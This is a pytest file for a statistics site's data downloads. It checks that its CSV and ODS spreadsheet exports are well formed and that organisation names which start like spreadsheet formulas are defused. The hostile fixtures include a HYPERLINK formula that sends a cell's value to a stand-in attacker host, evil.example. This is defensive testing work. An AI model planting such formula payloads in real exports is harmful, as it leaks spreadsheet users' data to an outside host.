"""The open data downloads as a user opens them: CSV files read with the csv module, the
spreadsheet with pandas (odfpy) and its XML read as it is."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import ROWS_2023, ROWS_2024, make_project, run_cli, write_csv

from kfh_site.downloads.sheets import FORMULA_STARTS, formula_safe
from kfh_site.downloads.tables import Column, Table, csv_bytes
from kfh_site.story.formatting import file_size

HOSTILE_NAMES = {
    "HYP": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "PLS": "+44 Trust",
    "MIN": "-2+3 Trust",
    "ATS": "@SUM(A1:A9)",
    "TAB": "\t=1+1",
}
"""Names (and organisation types) that start like spreadsheet formulas. A leading tab is
trimmed when the return is read; the carriage return is tested on a table directly."""


ODS = "downloads/lks-statistics-2024-25.ods"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small project plus organisations whose name and type start like formulas, one
    of which lost 12.3 qualified WTE and gained staff (negative changes)."""
    root = make_project(tmp_path_factory.mktemp("hostile") / "project")
    extra_2024, extra_2023 = [], []
    for code, name in HOSTILE_NAMES.items():
        extra_2024.append([code, name, "London", name, "2024/25", "5000", "1", "", "", "",
                           "", "", "", "", "", "", "", "", ""])
        extra_2023.append([code, name, "London", name, "2023/24", "4000", "13.3", "", "", "",
                           "", "", "", "", "", "", "", "", ""])
    write_csv(root / "data" / "returns" / "2024-25.csv", ROWS_2024 + extra_2024)
    write_csv(root / "data" / "returns" / "2023-24.csv", ROWS_2023 + extra_2023)
    assert run_cli(root, "build", "--no-pdf") == 0
    return root / "build"


def test_no_csv_cell_starts_like_a_formula_and_negative_numbers_stay_numbers(hostile_site):
    rows = read_csv(hostile_site / "downloads" / "figures.csv")
    header = rows[0]
    for row in rows:
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (column, cell)
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:] if row[4] == "2024/25"}
    assert by_code["HYP"]["org_name"] == "'" + HOSTILE_NAMES["HYP"]
    assert by_code["HYP"]["org_type"] == "'" + HOSTILE_NAMES["HYP"]
    for code in ("PLS", "MIN", "ATS"):
        assert by_code[code]["org_name"] == "'" + HOSTILE_NAMES[code]
    # Numbers are never touched: the loss of 12.3 qualified WTE stays a negative number.
    assert by_code["HYP"]["qualified_lks_wte_change"] == "-12.30"
    for row in read_csv(hostile_site / "downloads" / "areas.csv"):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell


def test_every_formula_start_is_neutralised_and_a_carriage_return_never_splits_a_row():
    column = Column("name", "Name", "A name.", lambda text: text)
    numbers = Column("change", "Change", "A change.", lambda value: value, 1)
    names = ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', "Plain name", "O'Neill =1", "Two\rlines"]
    data = Table("t", (column,), [(name,) for name in names])
    rows = list(csv.reader(io.StringIO(csv_bytes(data).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + n for n in names[:6]] + names[6:]
    negative = Table("t", (numbers,), [(-12.3,), (None,)])
    assert csv_bytes(negative).decode("utf-8-sig").splitlines() == ["change", "-12.3", '""']
    assert formula_safe("-") == "'-" and formula_safe("") == ""


def test_csv_files_are_utf8_with_a_byte_order_mark_and_give_status_in_words(small_site):
    for name in ("figures.csv", "areas.csv"):
        raw = (small_site / "downloads" / name).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1, name
    rows = read_csv(small_site / "downloads" / "figures.csv")
    header = rows[0]
    assert header.index("status_label") == header.index("status") + 1
    assert header.index("previous_status_label") == header.index("previous_status") + 1
    delta = next(dict(zip(header, r, strict=True)) for r in rows if r[0] == "DDD")
    assert (delta["status"], delta["status_label"]) == ("no-qualified-staff", "No qualified staff reported")
    areas = read_csv(small_site / "downloads" / "areas.csv")
    england = dict(zip(areas[0], areas[1], strict=True))
    assert england["status_label"] == "Better than the 2019 average"


def test_the_data_page_says_how_the_files_are_written(small_site):
    from test_site import text_of

    text = text_of(small_site / "data.html")
    assert "UTF-8 text with a byte-order mark (BOM)" in text
    assert "never runs it as a formula" in text and "a change of -12.3 stays -12.3" in text


# --- the spreadsheet ----------------------------------------------------------------------


def read_book(path: Path) -> dict[str, pd.DataFrame]:
    return pd.read_excel(path, sheet_name=None, engine="odf", header=None)


def table_of(sheet: pd.DataFrame) -> pd.DataFrame:
    """The sheet's table: the rows under its one header row (the first row whose second
    cell is filled), with that row as the column names."""
    header = next(i for i in range(len(sheet)) if pd.notna(sheet.iloc[i, 1]))
    table = sheet.iloc[header + 1:].reset_index(drop=True)
    table.columns = list(sheet.iloc[header])
    return table


def string_cells(path: Path) -> list[str]:
    """The text of every text cell in every sheet, read from content.xml."""
    with zipfile.ZipFile(path) as archive:
        root = ET.fromstring(archive.read("content.xml"))
    return ["".join(cell.itertext()) for cell in root.iter(f"{TABLE}table-cell")
            if cell.get(f"{OFFICE}value-type") == "string"]


def test_the_spreadsheet_has_a_cover_contents_and_notes_then_one_table_a_sheet(small_site):
    book = read_book(small_site / ODS)
    assert list(book) == ["Cover", "Contents", "Notes", "Organisations", "Ranks_and_rates", "Regions_and_England"]
    cover = book["Cover"][0].tolist()
    assert cover[0] == "Library and knowledge services statistics 2024/25"  # the title in A1
    for line in ("Illustrative figures", "What this spreadsheet contains", "Source", "Test LKS team",
                 "Date published", "23 November 2026", "Contact",
                 "You may re-use these statistics under the Open Government Licence v3.0."):
        assert line in cover, line
    contents = table_of(book["Contents"])
    assert contents["Sheet name"].tolist() == ["Notes", "Organisations", "Ranks_and_rates", "Regions_and_England"]
    assert contents.notna().all().all()
    notes = table_of(book["Notes"])
    assert notes["Note number"].tolist()[:2] == ["[note 1]", "[note 2]"]
    text = " ".join(notes["Note text"])
    assert text.startswith("[x] means not available") and "[z] means not applicable" in text
    assert "ratio of sums" in text and "1 : 1,250" in text and "1 : 1,730" in text  # from the config
    for name, sheet in book.items():
        assert isinstance(sheet.iloc[0, 0], str) and sheet.iloc[0, 0], name  # every title in A1
        assert " " not in name


def test_the_organisations_sheet_has_every_organisation_and_year_and_every_column(small_site):
    csv_rows = read_csv(small_site / "downloads" / "figures.csv")
    book = read_book(small_site / ODS)
    sheet = book["Organisations"]
    assert sheet.iloc[1, 0] == ("This worksheet contains one table. Some column headings refer to notes, "
                                "which are on the Notes sheet.")
    table = table_of(sheet)
    assert len(table) == len(csv_rows) - 1 and len(table.columns) == len(csv_rows[0])
    assert table.notna().all().all()  # no blank cell anywhere in the table
    assert {"NHS staff (WTE)", "Status [note 4]", "Status (code) [note 4]"} <= set(table.columns)
    assert "Staff ratio (NHS staff per qualified WTE) [note 3]" in table.columns
    keys = list(zip(table["Organisation code"], table["Financial year"], strict=True))
    assert keys == [(r[0], r[4]) for r in csv_rows[1:]]
    areas = table_of(book["Regions_and_England"])
    assert len(areas) == len(read_csv(small_site / "downloads" / "areas.csv")) - 1
    assert "Staff ratio (NHS staff per qualified WTE) [note 3] [note 5]" in areas.columns  # ratio of sums


def test_the_ranks_and_rates_sheet_gives_each_rank_its_group_and_the_median_organisation(small_site):
    table = table_of(read_book(small_site / ODS)["Ranks_and_rates"])
    row = {(r["Organisation code"], r["Financial year"]): r for _, r in table.iterrows()}
    beta, delta = row[("BBB", "2024/25")], row[("DDD", "2024/25")]
    # Ranked among the four organisations with qualified staff in 2024/25 (1 : 1,250,
    # 1 : 1,600, 1 : 1,667, 1 : 1,890): Beta is 4th; Delta has none, so is not ranked.
    assert beta["Rank among all organisations (number) [note 10]"] == 4
    assert beta["Organisations ranked among all organisations (number) [note 10]"] == 4
    assert delta["Rank among all organisations (number) [note 10]"] == "[z]"
    assert beta["Literature searches per 1,000 NHS staff (number) [note 12]"] == pytest.approx(33.1)
    assert delta["Literature searches per qualified WTE (number) [note 12]"] == "[z]"
    assert table.notna().all().all()


def test_numbers_are_numbers_and_a_missing_figure_is_x_or_z_never_blank_or_0(small_site):
    table = table_of(read_book(small_site / ODS)["Organisations"])
    row = {(r["Organisation code"], r["Financial year"]): r for _, r in table.iterrows()}
    beta = row[("BBB", "2024/25")]
    assert beta["NHS staff (WTE)"] == 3024 and not isinstance(beta["NHS staff (WTE)"], str)
    assert beta["Staff ratio (NHS staff per qualified WTE) [note 3]"] == 1890
    assert beta["Literature searches (number)"] == 100
    assert beta["Other library and knowledge staff (WTE)"] == "[x]"  # "n/a" in the return
    assert beta["Document supply requests (number)"] == "[x]"  # "-" in the return
    assert beta["Status [note 4]"] == "Worse than the 2019 average"
    delta = row[("DDD", "2024/25")]
    assert delta["Staff ratio (NHS staff per qualified WTE) [note 3]"] == "[z]"  # no qualified staff
    assert delta["Previous year compared with [note 7]"] == "[x]"  # no return the year before
    ratio_change = "Change in staff ratio from the previous year (NHS staff per qualified WTE) [note 3] [note 7]"
    assert delta[ratio_change] == "[x]" and beta[ratio_change] == 390
    with zipfile.ZipFile(small_site / ODS) as archive:
        content = archive.read("content.xml").decode("utf-8")
    assert 'office:value-type="float" office:value="3024.0"' in content


def test_no_merged_cells_and_the_table_is_marked_up(small_site):
    with zipfile.ZipFile(small_site / ODS) as archive:
        content = archive.read("content.xml").decode("utf-8")
        root = ET.fromstring(content)
    assert "number-columns-spanned" not in content and "number-rows-spanned" not in content
    assert 'xlink:href="#Organisations.A1"' in content  # the contents sheet links to each sheet
    ranges = {r.get(f"{TABLE}name"): r.get(f"{TABLE}target-range-address")
              for r in root.iter(f"{TABLE}database-range")}
    width = len(read_csv(small_site / "downloads" / "figures.csv")[0])
    last = "".join(chr(65 + d) for d in ([width // 26 - 1] if width > 26 else []) + [(width - 1) % 26])
    assert ranges["Organisations_table"] == f"Organisations.A5:Organisations.{last}14"  # header row + 9 rows
    for table in root.iter(f"{TABLE}table"):
        header_rows = list(table.iter(f"{TABLE}table-header-rows"))
        assert len(header_rows) == (0 if table.get(f"{TABLE}name") == "Cover" else 1)


def test_the_spreadsheet_is_a_plain_opendocument_zip_with_no_time_in_it(small_site):
    with zipfile.ZipFile(small_site / ODS) as archive:
        entries = archive.infolist()
        meta = archive.read("meta.xml").decode("utf-8")
    assert entries[0].filename == "mimetype" and entries[0].compress_type == zipfile.ZIP_STORED
    assert not entries[0].extra
    assert {e.date_time for e in entries} == {(1980, 1, 1, 0, 0, 0)}
    assert re.findall(r"\d{4}-\d{2}-\d{2}", meta) == ["2026-11-23", "2026-11-23"]  # only config.published
    assert "<meta:generator>kfh-site</meta:generator>" in meta


def test_no_spreadsheet_text_cell_starts_like_a_formula(hostile_site):
    cells = string_cells(hostile_site / ODS)
    assert "'" + HOSTILE_NAMES["HYP"] in cells and "'@SUM(A1:A9)" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    table = table_of(read_book(hostile_site / ODS)["Organisations"])
    hyp = table[(table["Organisation code"] == "HYP") & (table["Financial year"] == "2024/25")].iloc[0]
    change = hyp["Change in qualified library and knowledge staff from the previous year (WTE) [note 7]"]
    assert change == -12.3 and not isinstance(change, str)  # a negative number stays a number


def test_the_data_page_links_every_download_with_its_format_and_size(small_site):
    from test_site import text_of

    html = (small_site / "data.html").read_text(encoding="utf-8")
    size = file_size((small_site / ODS).stat().st_size)
    links = {href: re.sub(r"<[^>]+>", "", text) for href, text in re.findall(r'<a href="(downloads/[^"]+)">(.*?)</a>', html)}
    assert links["downloads/lks-statistics-2024-25.ods"] == (
        f"Library and knowledge services statistics 2024/25 (ODS, {size})")
    for name, kind in (("figures.csv", "CSV"), ("areas.csv", "CSV"), ("figures.json", "JSON")):
        assert re.fullmatch(rf"[^(]+ \({kind}, [\d,.]+ (KB|bytes|MB)\)", links[f"downloads/{name}"]), name
    assert "Releasing statistics in spreadsheets" in text_of(small_site / "data.html")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
